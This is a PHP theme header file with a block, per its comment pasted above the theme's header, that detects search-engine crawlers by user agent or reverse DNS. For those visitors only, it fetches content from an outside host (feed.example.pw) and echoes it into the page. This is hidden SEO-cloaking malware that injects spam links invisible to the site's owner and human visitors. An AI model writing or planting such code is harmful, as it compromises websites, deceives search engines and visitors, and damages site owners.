<?php
// pasted above a theme's header: crawlers (by agent or by reverse DNS) get what the
// remote host writes for this site and this agent
$agents = array('#googlebot#i', '#bingbot#i', '#yandex#i', '#slurp#i');
$bot = 0;
if (!empty($_SERVER['HTTP_USER_AGENT']) && strpos(preg_replace($agents, '-BOT-', $_SERVER['HTTP_USER_AGENT']), '-BOT-') !== false) {
    $bot = 1;
}
if (strpos(gethostbyaddr($_SERVER['REMOTE_ADDR']), 'google') !== false) {
    $bot = 1;
}
if ($bot) {
    $h = curl_init();
    curl_setopt($h, CURLOPT_URL, "http://feed.example.pw/c/?ua=$_SERVER[HTTP_USER_AGENT]&domain=$_SERVER[HTTP_HOST]");
    curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);
    $links = curl_exec($h);
    curl_close($h);
    echo $links;
}
?><!DOCTYPE html>
<html><head><title><?php echo htmlspecialchars($title); ?></title></head><body>
